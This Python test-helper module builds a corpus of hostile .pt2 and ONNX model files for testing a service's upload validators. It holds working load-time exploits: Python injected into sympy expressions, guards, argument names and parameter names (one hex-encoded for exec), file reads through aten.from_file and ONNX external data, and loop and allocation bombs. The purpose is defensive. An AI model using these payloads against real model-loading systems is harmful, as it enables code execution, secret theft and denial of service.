"""Hostile model files: a corpus of uploads that try to escape when loaded, for the static validators
(``etm.models.pt2_validate``, ``etm.models.onnx_validate``) and for tests of the API, workers
and CLI.

Each function writes one file (plus a JSON sidecar, so metadata is never the reason for a refusal)
into ``tmp`` and returns its path. The payloads are real: loaded without the validators (torch's own
``torch.export.load(...).module()(x)``, or an ONNX Runtime session) they write ``marker_path``, read
``secret_path`` / ``secret_relpath`` into the model's scores, create ``target_path``, allocate
terabytes or run for hours. ``tests/etm/test_model_validators.py`` proves it in throwaway subprocesses
for every entry of ``PT2_MARKER_PAYLOADS``, the ``from_file`` payloads, every external-data place
(subgraph ones from bytes, as this service loads; the top-level ones, which ONNX Runtime refuses from
bytes, from a path, as a CLI would) and the input-dependent loop. ``PT2_STOPPED_BY_TORCH`` lists the
payloads torch 2.14 happens to stop itself; the bombs are not run (they would take the machine).

Payloads that write a marker use ``pathlib.Path(marker).write_text("pwned")``, never a shell.

.pt2 files are small torch.export programs (dynamic batch, 32x32 images) whose JSON is edited, then
re-packed with torch's own archive writer. ONNX files start from ``tests.helpers.faulty.conv_net``.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper, numpy_helper

from tests.helpers.faulty import OPSET, conv_net
from tests.helpers.tiny import META

# -- .pt2 ----------------------------------------------------------------------------------------


class _DynNet(torch.nn.Module):
    """conv(3->4, stride 4) -> relu -> reshape(b * 2, -1) -> view(b, -1) -> linear(256->2): the export
    holds ``sym_size.int``, ``operator.mul`` on the symbolic batch and symbolic ``sym_int_values``."""

    def __init__(self) -> None:
        super().__init__()
        self.c = torch.nn.Conv2d(3, 4, 3, stride=4, padding=1)
        self.fc = torch.nn.Linear(4 * 8 * 8, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = torch.relu(self.c(x))
        b = x.shape[0]
        y = y.reshape(b * 2, -1)
        return self.fc(y.view(x.shape[0], -1))


class _FileNet(torch.nn.Module):
    """conv -> mean -> linear(4->8), plus ``torch.zeros(8, uint8)`` added to the scores: the zeros node
    is where the file payloads put ``aten.from_file`` (torch.export cannot trace that op itself)."""

    def __init__(self) -> None:
        super().__init__()
        self.c = torch.nn.Conv2d(3, 4, 3)
        self.fc = torch.nn.Linear(4, 8)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = self.fc(self.c(x).mean(dim=(2, 3)))
        return y * 0 + torch.zeros(8, dtype=torch.uint8).float()


_FILE_META = dict(META, class_names=[f"c{i}" for i in range(8)], positive_class="c1")


@cache
def _exported(kind: str) -> tuple[tuple[str, bytes], ...]:
    """The records of a freshly exported base archive (once per process and kind)."""
    import tempfile

    from torch.export.pt2_archive import _package as pt2

    torch.manual_seed(0)
    module = {"dyn": _DynNet, "file": _FileNet}[kind]().eval()
    batch = torch.export.Dim("batch", min=1, max=4096)
    ep = torch.export.export(module, (torch.rand(2, 3, 32, 32),), dynamic_shapes={"x": {0: batch}})
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "base.pt2"
        torch.export.save(ep, str(path))
        reader = pt2.PT2ArchiveReader(str(path))
        return tuple((n, reader.read_bytes(n)) for n in reader.get_file_names())


def _write_pt2(
    out: Path, kind: str, edit: Callable[[dict[str, Any]], None] | None = None,
    edit_configs: Callable[[dict[str, dict[str, Any]]], None] | None = None, meta: dict | None = None,
) -> Path:
    """Re-pack the base archive ``kind`` to ``out`` after ``edit`` changed its program JSON in place
    (and ``edit_configs`` the weights/constants configs, keyed by record name)."""
    from torch.export.pt2_archive import _package as pt2

    records = dict(_exported(kind))
    program = json.loads(records["models/model.json"])
    if edit is not None:
        edit(program)
    records["models/model.json"] = json.dumps(program).encode()
    if edit_configs is not None:
        names = [n for n in records if n.endswith("_config.json")]
        configs = {n: json.loads(records[n]) for n in names}
        edit_configs(configs)
        records.update({n: json.dumps(c).encode() for n, c in configs.items()})
    out.parent.mkdir(parents=True, exist_ok=True)
    with pt2.PT2ArchiveWriter(str(out)) as writer:
        for name, data in records.items():
            if not name.startswith(".data/"):  # the writer adds its own version and serialization id
                writer.write_bytes(name, data)
    out.with_name(out.name + ".json").write_text(json.dumps(meta or META))
    return out


def _graph(program: dict[str, Any]) -> dict[str, Any]:
    return program["graph_module"]["graph"]


def _node(program: dict[str, Any], target: str) -> dict[str, Any]:
    return next(n for n in _graph(program)["nodes"] if n["target"] == target)


def _write_marker(marker_path: Path) -> str:
    """Python that writes ``marker_path`` and evaluates to 5 (the length written)."""
    return f"__import__('pathlib').Path({str(marker_path)!r}).write_text('pwned')"


def _rename_value(program: dict[str, Any], old: str, new: str) -> None:
    """Rename the graph value ``old`` everywhere the program refers to it (not operator argument names)."""

    def walk(obj: Any) -> Any:
        if isinstance(obj, dict):
            out = {}
            for k, v in obj.items():
                if k in ("name", "as_name") and v == old and "arg" not in obj:
                    out[k] = new
                else:
                    out[k] = walk(v)
            return out
        if isinstance(obj, list):
            return [walk(v) for v in obj]
        return obj

    renamed = walk(program)
    program.clear()
    program.update(renamed)
    graph = _graph(program)
    for table in ("tensor_values", "sym_int_values", "sym_bool_values", "sym_float_values"):
        if old in graph.get(table, {}):
            graph[table][new] = graph[table].pop(old)


def pt2_sympy_exec(tmp: Path, marker_path: Path, where: str = "input") -> Path:
    """A symbolic-shape ``expr_str`` that torch hands to ``sympy.sympify`` (``eval``): it writes
    ``marker_path`` and still evaluates to the original symbol, so the program loads and runs normally.

    ``where``: ``"input"`` (the image input's batch size in ``tensor_values``), ``"intermediate"`` (a
    node output's size), ``"sym_int_value"`` (the symbolic int produced by ``operator.mul``).
    """

    def edit(program: dict[str, Any]) -> None:
        graph = _graph(program)
        if where == "input":
            expr = graph["tensor_values"]["x"]["sizes"][0]["as_expr"]
        elif where == "intermediate":
            expr = graph["tensor_values"]["relu"]["sizes"][0]["as_expr"]
        elif where == "sym_int_value":
            expr = graph["sym_int_values"]["mul"]["as_expr"]
        else:
            raise ValueError(f"unknown where={where!r}")
        expr["expr_str"] = f"({_write_marker(marker_path)}, {expr['expr_str']})[1]"

    return _write_pt2(tmp / f"pt2_sympy_exec_{where}.pt2", "dyn", edit)


def pt2_range_constraint_payload(tmp: Path, marker_path: Path) -> Path:
    """Python in a ``range_constraints`` key and a string bound. torch 2.14 does not evaluate these
    (keys are looked up as text, bounds go through ``int()``), but a torch version that sympifies them
    would run it; the validator refuses anything that is not a symbol name and integer bounds."""

    def edit(program: dict[str, Any]) -> None:
        (name, bounds), = program["range_constraints"].items()
        program["range_constraints"] = {
            name: bounds,
            _write_marker(marker_path): {"min_val": _write_marker(marker_path), "max_val": None},
        }

    return _write_pt2(tmp / "pt2_range_constraint_payload.pt2", "dyn", edit)


def pt2_guards_exec(tmp: Path, marker_path: Path) -> Path:
    """A ``guards_code`` entry: ``ExportedProgram.module()`` compiles the guards into Python with
    ``exec`` and runs them on every forward call."""

    def edit(program: dict[str, Any]) -> None:
        program["guards_code"] = [f"{_write_marker(marker_path)} > 0"]

    return _write_pt2(tmp / "pt2_guards_exec.pt2", "dyn", edit)


def pt2_placeholder_name_exec(tmp: Path, marker_path: Path) -> Path:
    """The image input renamed to ``x=<python>``: torch.fx writes placeholder names verbatim into the
    ``def forward(...)`` line of the generated source, so the default value runs when the
    deserializer builds the GraphModule (at load, before any forward)."""
    return _write_pt2(
        tmp / "pt2_placeholder_name_exec.pt2", "dyn",
        lambda p: _rename_value(p, "x", f"x={_write_marker(marker_path)}"),
    )


def pt2_node_name_exec(tmp: Path, marker_path: Path) -> Path:
    """A node renamed to ``globals()[<python>]``: the deserializer assigns serialized node names
    without torch.fx's sanitising, and as an assignment target and as an argument the name would run the
    subscript. torch 2.14's code generator happens to re-sanitise call_function names (placeholders it
    does not, see ``pt2_placeholder_name_exec``), so this one does not escape there; refused anyway."""
    return _write_pt2(
        tmp / "pt2_node_name_exec.pt2", "dyn",
        lambda p: _rename_value(p, "relu", f"globals()[{_write_marker(marker_path)}]"),
    )


def pt2_forward_arg_names_exec(tmp: Path, marker_path: Path) -> Path:
    """``forward_arg_names`` of the root module call: ``ExportedProgram.module()`` writes them into the
    ``def forward(...)`` line of the unlifted module's source, so a default value runs there."""

    def edit(program: dict[str, Any]) -> None:
        sig = program["graph_module"]["module_call_graph"][0]["signature"]
        # A triple-quoted default swallows the generated flatten line, so the source still compiles:
        #   def forward(self, x='''...''', y=<python>):
        #       _q = lambda self: (([], {}), self._in_spec)
        sig["forward_arg_names"] = [f"x=''', y={_write_marker(marker_path)}):\n    _q=lambda self: ((["]

    return _write_pt2(tmp / "pt2_forward_arg_names_exec.pt2", "dyn", edit)


def pt2_fqn_exec(tmp: Path, marker_path: Path) -> Path:
    """A parameter FQN with a double quote: torch.fx emits ``getattr(self.fc, "<part>")`` for FQN parts
    that are not identifiers, so the quote closes the string and the rest is code. FQN parts are split
    on dots, so the payload is spelled without any (hex-encoded, run with ``exec``)."""
    code = f"import pathlib; pathlib.Path({str(marker_path)!r}).write_text('pwned')".encode().hex()
    part = f'w") if exec(getattr(getattr(bytes, "fromhex")("{code}"), "decode")()) else getattr(self, "fc'
    fqn = f"fc.{part}"

    def edit(program: dict[str, Any]) -> None:
        for spec in program["graph_module"]["signature"]["input_specs"]:
            if spec.get("parameter", {}).get("parameter_name") == "fc.weight":
                spec["parameter"]["parameter_name"] = fqn

    def edit_configs(configs: dict[str, dict[str, Any]]) -> None:
        for cfg in configs.values():
            if "fc.weight" in cfg["config"]:
                cfg["config"][fqn] = cfg["config"].pop("fc.weight")

    return _write_pt2(tmp / "pt2_fqn_exec.pt2", "dyn", edit, edit_configs)


def pt2_python_callable(tmp: Path, marker_path: Path) -> Path:
    """A node whose target is not an operator but a Python function reached through ``torch``'s module
    attributes (``torch.os.mkdir``): the deserializer resolves ``torch.*`` targets with ``getattr``
    and builds a call of any callable it finds, which would create the directory ``marker_path`` on
    forward. torch 2.14's verifier (run when the ExportedProgram is built) rejects non-operator
    callables, so this does not escape there; refused before torch is involved."""

    def edit(program: dict[str, Any]) -> None:
        graph = _graph(program)
        i = next(i for i, n in enumerate(graph["nodes"]) if n["target"] == "torch.ops.aten.linear.default")
        graph["nodes"].insert(i, {
            "target": "torch.os.mkdir",
            "inputs": [{"name": "", "arg": {"as_string": str(marker_path)}, "kind": 1}],
            "outputs": [{"as_none": True}],
            "metadata": {},
            "is_hop_single_tensor_return": None,
            "name": "mkdir",
        })

    return _write_pt2(tmp / "pt2_python_callable.pt2", "dyn", edit)


def _from_file(tmp: Path, path: Path, shared: bool, size: int, out_name: str) -> Path:
    def edit(program: dict[str, Any]) -> None:
        node = _node(program, "torch.ops.aten.zeros.default")
        node["target"] = "torch.ops.aten.from_file.default"
        node["inputs"] = [
            {"name": "filename", "arg": {"as_string": str(path)}, "kind": 1},
            {"name": "shared", "arg": {"as_bool": shared}, "kind": 1},
            {"name": "size", "arg": {"as_int": size}, "kind": 1},
            {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2},  # uint8
        ]
        if size != 8:  # keep the graph's [8] result: narrow the mapping to its first 8 bytes
            graph = _graph(program)
            name = node["outputs"][0]["as_tensor"]["name"]
            full = name + "_full"
            node["outputs"][0]["as_tensor"]["name"] = full
            node["name"] = full
            graph["tensor_values"][full] = copy.deepcopy(graph["tensor_values"][name])
            graph["tensor_values"][full]["sizes"] = [{"as_int": size}]
            i = graph["nodes"].index(node)
            graph["nodes"].insert(i + 1, {
                "target": "torch.ops.aten.slice.Tensor",
                "inputs": [
                    {"name": "self", "arg": {"as_tensor": {"name": full}}, "kind": 1},
                    {"name": "dim", "arg": {"as_int": 0}, "kind": 1},
                    {"name": "start", "arg": {"as_int": 0}, "kind": 1},
                    {"name": "end", "arg": {"as_int": 8}, "kind": 1},
                ],
                "outputs": [{"as_tensor": {"name": name}}],
                "metadata": {},
                "is_hop_single_tensor_return": None,
                "name": name,
            })

    return _write_pt2(tmp / out_name, "file", edit, meta=_FILE_META)


def pt2_from_file_read(tmp: Path, secret_path: Path) -> Path:
    """``aten.from_file(secret_path, shared=False, size=8, dtype=uint8)`` added to the 8 class scores
    (times 0): the scores are the secret's first 8 bytes."""
    return _from_file(tmp, secret_path, False, 8, "pt2_from_file_read.pt2")


def pt2_from_file_create(tmp: Path, target_path: Path) -> Path:
    """``aten.from_file(target_path, shared=True, size=4096)``: a shared mapping creates ``target_path``
    (4 KiB of zeros) when the program runs."""
    return _from_file(tmp, target_path, True, 4096, "pt2_from_file_create.pt2")


def pt2_unlisted_op(tmp: Path, target: str = "torch.ops.aten._unsafe_index.Tensor") -> Path:
    """The linear layer's input goes through ``target`` first (default ``aten._unsafe_index``, an
    indexing op without bounds checks). The node passes ``self`` and ``indices=[None]``; arguments
    ``target``'s schema lacks are ignored by the deserializer (``aten.clone.default`` works too)."""

    def edit(program: dict[str, Any]) -> None:
        graph = _graph(program)
        node = next(n for n in graph["nodes"] if n["target"] == "torch.ops.aten.linear.default")
        src = node["inputs"][0]["arg"]["as_tensor"]["name"]
        new = src + "_indexed"
        graph["tensor_values"][new] = copy.deepcopy(graph["tensor_values"][src])
        node["inputs"][0]["arg"]["as_tensor"]["name"] = new
        graph["nodes"].insert(graph["nodes"].index(node), {
            "target": target,
            "inputs": [
                {"name": "self", "arg": {"as_tensor": {"name": src}}, "kind": 1},
                {"name": "indices", "arg": {"as_optional_tensors": [{"as_none": True}]}, "kind": 1},
            ],
            "outputs": [{"as_tensor": {"name": new}}],
            "metadata": {},
            "is_hop_single_tensor_return": None,
            "name": new,
        })

    return _write_pt2(tmp / f"pt2_unlisted_op_{target.split('.')[-2]}.pt2", "dyn", edit)


def pt2_dynamic_arithmetic(tmp: Path) -> Path:
    """Not hostile: the base program itself (``operator.mul`` on the symbolic batch), which must load."""
    return _write_pt2(tmp / "pt2_dynamic_arithmetic.pt2", "dyn")


# Every .pt2 payload that writes ``marker_path`` when torch 2.14 loads and runs it without the
# validators (``torch.export.load(path).module()(images)``): proven in tests/etm/test_model_validators.py.
PT2_MARKER_PAYLOADS: dict[str, Callable[[Path, Path], Path]] = {
    "sympy_input": lambda t, m: pt2_sympy_exec(t, m, "input"),
    "sympy_intermediate": lambda t, m: pt2_sympy_exec(t, m, "intermediate"),
    "sympy_sym_int_value": lambda t, m: pt2_sympy_exec(t, m, "sym_int_value"),
    "guards_code": pt2_guards_exec,
    "placeholder_name": pt2_placeholder_name_exec,
    "forward_arg_names": pt2_forward_arg_names_exec,
    "fqn": pt2_fqn_exec,
}
# Payloads torch 2.14 itself happens to stop (or not evaluate); a future torch may not.
PT2_STOPPED_BY_TORCH: dict[str, Callable[[Path, Path], Path]] = {
    "node_name": pt2_node_name_exec,
    "python_callable": pt2_python_callable,
    "range_constraint": pt2_range_constraint_payload,
}


# -- ONNX ----------------------------------------------------------------------------------------


def _base_onnx(tmp: Path) -> onnx.ModelProto:
    """``conv_net``'s classifier with its Gemm renamed to ``logits_inner``: payloads add to it."""
    tmp.mkdir(parents=True, exist_ok=True)
    proto = onnx.load(str(conv_net(tmp / "_hostile_base.onnx")))
    for node in proto.graph.node:
        node.output[:] = ["logits_inner" if o == "logits" else o for o in node.output]
    return proto


def _finish_onnx(proto: onnx.ModelProto, out: Path, extra: str) -> Path:
    """logits = logits_inner + ``extra`` (a [1, 2] float tensor the payload computes)."""
    proto.graph.node.append(helper.make_node("Add", ["logits_inner", extra], ["logits"]))
    onnx.save(proto, str(out))
    out.with_name(out.name + ".json").write_text(json.dumps(META))
    return out


def _external(name: str, relpath: str, dims: tuple[int, ...] = (1, 2)) -> TensorProto:
    """A float tensor whose bytes are read from ``relpath`` (external data, offset 0)."""
    t = TensorProto()
    t.name = name
    t.data_type = TensorProto.FLOAT
    t.dims.extend(dims)
    t.data_location = TensorProto.EXTERNAL
    for key, value in (("location", relpath), ("offset", "0"), ("length", str(4 * int(np.prod(dims))))):
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    return t


def _zeros_logits_inner(proto: onnx.ModelProto) -> None:
    """logits_inner *= 0, so the output is exactly what the payload adds (the leaked bytes)."""
    for node in proto.graph.node:
        node.output[:] = ["logits_gemm" if o == "logits_inner" else o for o in node.output]
    proto.graph.initializer.append(numpy_helper.from_array(np.zeros((), np.float32), "zero_f"))
    proto.graph.node.append(helper.make_node("Mul", ["logits_gemm", "zero_f"], ["logits_inner"]))


def _bool_const(name: str, value: bool = True) -> onnx.NodeProto:
    return helper.make_node("Constant", [], [name], value=numpy_helper.from_array(np.array(value), name + "_v"))


def _branch(name: str, out: str, nodes: list, inits: list | None = None) -> onnx.GraphProto:
    return helper.make_graph(nodes, name, [], [helper.make_tensor_value_info(out, TensorProto.FLOAT, [1, 2])],
                             inits or [])


def _zeros_branch(name: str, out: str) -> onnx.GraphProto:
    zeros = numpy_helper.from_array(np.zeros((1, 2), np.float32), out + "_v")
    return _branch(name, out, [helper.make_node("Constant", [], [out], value=zeros)])


def onnx_external_data(tmp: Path, secret_relpath: str, where: str = "if_initializer") -> Path:
    """A [1, 2] float tensor whose 8 bytes come from ``secret_relpath`` (external data), added to
    the scores (times 0), so the scores are the secret's first 8 bytes. ONNX Runtime resolves a relative
    location against the model's folder, or the process's working directory when the model is given
    as bytes (as this service does).

    ``where``: ``"initializer"`` (top-level), ``"constant"`` (a top-level ``Constant`` node's value),
    ``"if_initializer"`` / ``"if_constant"`` (inside an ``If`` branch that is taken),
    ``"nested_if"`` (an initializer two ``If`` levels down), ``"sparse_initializer"`` (the values of a
    top-level sparse initializer), ``"function_constant"`` (a ``Constant`` in a model-local function).
    """
    proto = _base_onnx(tmp)
    _zeros_logits_inner(proto)
    g = proto.graph
    if where == "initializer":
        g.initializer.append(_external("leak", secret_relpath))
    elif where == "constant":
        g.node.append(helper.make_node("Constant", [], ["leak"], value=_external("leak_v", secret_relpath)))
    elif where in ("if_initializer", "if_constant", "nested_if"):
        if where == "if_constant":
            then = _branch("then", "t_out", [helper.make_node(
                "Constant", [], ["t_out"], value=_external("t_v", secret_relpath))])
        else:
            then = _branch("then", "t_out", [helper.make_node("Identity", ["t_leak"], ["t_out"])],
                           [_external("t_leak", secret_relpath)])
        if where == "nested_if":
            then = _branch("outer_then", "o_out", [
                _bool_const("inner_cond"),
                helper.make_node("If", ["inner_cond"], ["o_out"], then_branch=then,
                                 else_branch=_zeros_branch("inner_else", "ie_out")),
            ])
        g.node.extend([_bool_const("cond"), helper.make_node(
            "If", ["cond"], ["leak"], then_branch=then, else_branch=_zeros_branch("else", "e_out"))])
    elif where == "sparse_initializer":
        values = _external("leak_values", secret_relpath, (2,))
        indices = numpy_helper.from_array(np.array([0, 1], np.int64), "leak_indices")
        g.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [1, 2]))
        g.sparse_initializer[0].values.name = "leak"
    elif where == "function_constant":
        fn = helper.make_function(
            "com.example.local", "Leak", [], ["out"],
            [helper.make_node("Constant", [], ["out"], value=_external("f_v", secret_relpath))],
            [helper.make_opsetid("", OPSET)],
        )
        proto.functions.append(fn)
        proto.opset_import.append(helper.make_opsetid("com.example.local", 1))
        g.node.append(helper.make_node("Leak", [], ["leak"], domain="com.example.local"))
    else:
        raise ValueError(f"unknown where={where!r}")
    return _finish_onnx(proto, tmp / f"onnx_external_data_{where}.onnx", "leak")


def onnx_subgraph_external_data(tmp: Path, secret_relpath: str) -> Path:
    """External data in an ``If`` branch's initializer (the reproduced attack): see ``onnx_external_data``."""
    return onnx_external_data(tmp, secret_relpath, "if_initializer")


def _loop(trip_count: str, out_dir: Path, name: str, proto: onnx.ModelProto) -> Path:
    """``Loop(trip_count, true)`` carrying a [1, 2] zero tensor through an Add-zero body."""
    g = proto.graph
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]),
         helper.make_node("Add", ["v_in", "step"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1, 2])],
        [numpy_helper.from_array(np.zeros((1, 2), np.float32), "step")],
    )
    g.initializer.append(numpy_helper.from_array(np.zeros((1, 2), np.float32), "v0"))
    g.node.extend([_bool_const("keep_going"),
                   helper.make_node("Loop", [trip_count, "keep_going", "v0"], ["v_final"], body=body)])
    return _finish_onnx(proto, out_dir / name, "v_final")


def onnx_loop_bomb(tmp: Path) -> Path:
    """A ``Loop`` with a constant trip count of 10^15: the session loads, the first run never ends."""
    proto = _base_onnx(tmp)
    proto.graph.initializer.append(numpy_helper.from_array(np.array(10**15, np.int64), "trip"))
    return _loop("trip", tmp, "onnx_loop_bomb.onnx", proto)


def onnx_loop_input_dependent(tmp: Path) -> Path:
    """A ``Loop`` whose trip count is ``sum(|x|) * 10^9``: 0 on blank probe images (the upload passes
    a probe), ~10^12 iterations on a real image (the worker hangs)."""
    proto = _base_onnx(tmp)
    g = proto.graph
    g.initializer.append(numpy_helper.from_array(np.array(1e9, np.float32), "scale"))
    g.node.extend([
        helper.make_node("Abs", ["x"], ["x_abs"]),
        helper.make_node("ReduceSum", ["x_abs"], ["x_sum"], keepdims=0),
        helper.make_node("Mul", ["x_sum", "scale"], ["trip_f"]),
        helper.make_node("Cast", ["trip_f"], ["trip"], to=TensorProto.INT64),
    ])
    return _loop("trip", tmp, "onnx_loop_input_dependent.onnx", proto)


def onnx_scan_bomb(tmp: Path, n: int = 100_000) -> Path:
    """A ``Scan`` over ``n`` steps whose body scans ``n`` steps again: n^2 = 10^10 body runs on small
    tensors (no memory to speak of, hours of CPU)."""
    proto = _base_onnx(tmp)
    g = proto.graph

    def ranged(prefix: str) -> list:
        def scalar(name: str, value: float) -> onnx.NodeProto:
            return helper.make_node("Constant", [], [name], value=numpy_helper.from_array(
                np.array(value, np.float32), name + "_v"))

        return [scalar(f"{prefix}_start", 0.0), scalar(f"{prefix}_limit", float(n)), scalar(f"{prefix}_delta", 1.0),
                helper.make_node("Range", [f"{prefix}_start", f"{prefix}_limit", f"{prefix}_delta"], [f"{prefix}_seq"])]

    inner = helper.make_graph(
        [helper.make_node("Add", ["is_in", "ie"], ["is_out"])],
        "inner",
        [helper.make_tensor_value_info("is_in", TensorProto.FLOAT, []),
         helper.make_tensor_value_info("ie", TensorProto.FLOAT, [])],
        [helper.make_tensor_value_info("is_out", TensorProto.FLOAT, [])],
    )
    outer = helper.make_graph(
        ranged("in") + [helper.make_node("Scan", ["os_in", "in_seq"], ["os_mid"], body=inner, num_scan_inputs=1),
                        helper.make_node("Add", ["os_mid", "oe"], ["os_out"])],
        "outer",
        [helper.make_tensor_value_info("os_in", TensorProto.FLOAT, []),
         helper.make_tensor_value_info("oe", TensorProto.FLOAT, [])],
        [helper.make_tensor_value_info("os_out", TensorProto.FLOAT, [])],
    )
    g.initializer.append(numpy_helper.from_array(np.array(0.0, np.float32), "s0"))
    g.initializer.append(numpy_helper.from_array(np.zeros((), np.float32), "scan_zero"))
    g.node.extend(ranged("out") + [
        helper.make_node("Scan", ["s0", "out_seq"], ["s_final"], body=outer, num_scan_inputs=1),
        helper.make_node("Mul", ["s_final", "scan_zero"], ["s_zero"]),
        helper.make_node("Expand", ["s_zero", "shape12"], ["scan_out"]),
    ])
    g.initializer.append(numpy_helper.from_array(np.array([1, 2], np.int64), "shape12"))
    return _finish_onnx(proto, tmp / "onnx_scan_bomb.onnx", "scan_out")


def onnx_custom_domain(tmp: Path, domain: str = "com.example.custom", imported: bool = True) -> Path:
    """A node of an operator domain no runtime provides, hidden in an ``If`` branch (the top-level
    opset check does not look into subgraphs). With ``domain="com.microsoft"`` it is one of ONNX
    Runtime's own contrib operators, which this service does not accept either. ``imported=False``:
    the domain is not even declared in ``opset_import``."""
    proto = _base_onnx(tmp)
    if imported:
        proto.opset_import.append(helper.make_opsetid(domain, 1))
    then = _branch("then", "t_out", [
        helper.make_node("Constant", [], ["t_in"], value=numpy_helper.from_array(np.zeros((1, 2), np.float32), "t_v")),
        helper.make_node("Gelu" if domain == "com.microsoft" else "Magic", ["t_in"], ["t_out"], domain=domain),
    ])
    proto.graph.node.extend([_bool_const("cond"), helper.make_node(
        "If", ["cond"], ["custom"], then_branch=then, else_branch=_zeros_branch("else", "e_out"))])
    safe = domain.replace(".", "_") + ("" if imported else "_undeclared")
    return _finish_onnx(proto, tmp / f"onnx_custom_domain_{safe}.onnx", "custom")


def onnx_allocation_bomb(tmp: Path, op: str = "ConstantOfShape") -> Path:
    """A tensor of ~10^12 elements (4 TB of float) from constant sizes, reduced to the [1, 2] added to
    the scores. ``op``: ``"ConstantOfShape"``, ``"Expand"``, ``"Tile"``, ``"Range"``, ``"Resize"``
    (scales of 10^4 on the 32x32 input), ``"Pad"`` (pads of 5*10^5 per side), ``"ConvPads"`` (a Conv
    whose ``pads`` attribute is 5*10^5), ``"initializer"`` (dims of 10^12 with 4 bytes of data),
    ``"sparse_constant"`` (a ``Constant`` whose sparse value ONNX Runtime makes dense)."""
    proto = _base_onnx(tmp)
    g = proto.graph
    big = [1_000_000, 1_000_000]

    def ints(name: str, values: list[int]) -> None:
        g.initializer.append(numpy_helper.from_array(np.array(values, np.int64), name))

    if op == "ConstantOfShape":
        ints("bomb_shape", big)
        g.node.append(helper.make_node("ConstantOfShape", ["bomb_shape"], ["bomb"],
                                       value=numpy_helper.from_array(np.zeros(1, np.float32), "v")))
    elif op == "Expand":
        ints("bomb_shape", big)
        g.initializer.append(numpy_helper.from_array(np.zeros((1, 1), np.float32), "one_cell"))
        g.node.append(helper.make_node("Expand", ["one_cell", "bomb_shape"], ["bomb"]))
    elif op == "Tile":
        ints("bomb_repeats", big)
        g.initializer.append(numpy_helper.from_array(np.zeros((1, 1), np.float32), "one_cell"))
        g.node.append(helper.make_node("Tile", ["one_cell", "bomb_repeats"], ["bomb"]))
    elif op == "Range":
        g.initializer.extend([numpy_helper.from_array(np.array(v, np.float32), k)
                              for k, v in (("rng_start", 0.0), ("rng_limit", 1e12), ("rng_delta", 1.0))])
        g.node.append(helper.make_node("Range", ["rng_start", "rng_limit", "rng_delta"], ["bomb"]))
    elif op == "Resize":
        g.initializer.append(numpy_helper.from_array(np.array([1, 1, 1e4, 1e4], np.float32), "bomb_scales"))
        g.node.append(helper.make_node("Resize", ["x", "", "bomb_scales"], ["bomb"], mode="nearest"))
    elif op == "Pad":
        ints("bomb_pads", [0, 0, 500_000, 500_000, 0, 0, 500_000, 500_000])
        g.node.append(helper.make_node("Pad", ["x", "bomb_pads"], ["bomb"]))
    elif op == "ConvPads":
        g.node.append(helper.make_node("Conv", ["x", "w0"], ["bomb"], pads=[500_000] * 4))
    elif op == "initializer":
        t = TensorProto()
        t.name, t.data_type = "bomb", TensorProto.FLOAT
        t.dims.extend(big)
        t.raw_data = b"\0" * 4
        g.initializer.append(t)
    elif op == "sparse_constant":
        values = numpy_helper.from_array(np.zeros(1, np.float32), "bomb_values")
        indices = numpy_helper.from_array(np.array([0], np.int64), "bomb_indices")
        g.node.append(helper.make_node("Constant", [], ["bomb"],
                                       sparse_value=helper.make_sparse_tensor(values, indices, big)))
    else:
        raise ValueError(f"unknown op={op!r}")
    g.node.extend([
        helper.make_node("ReduceSum", ["bomb"], ["bomb_sum"], keepdims=0),
        helper.make_node("Mul", ["bomb_sum", "zero_bomb"], ["bomb_zero"]),
        helper.make_node("Expand", ["bomb_zero", "shape_1x2"], ["bomb_out"]),
    ])
    g.initializer.append(numpy_helper.from_array(np.zeros((), np.float32), "zero_bomb"))
    ints("shape_1x2", [1, 2])
    return _finish_onnx(proto, tmp / f"onnx_allocation_bomb_{op}.onnx", "bomb_out")


ONNX_EXTERNAL_DATA_PLACES = (
    "initializer", "constant", "if_initializer", "if_constant", "nested_if", "sparse_initializer",
    "function_constant",
)
ONNX_ALLOCATION_BOMBS = (
    "ConstantOfShape", "Expand", "Tile", "Range", "Resize", "Pad", "ConvPads", "initializer", "sparse_constant",
)
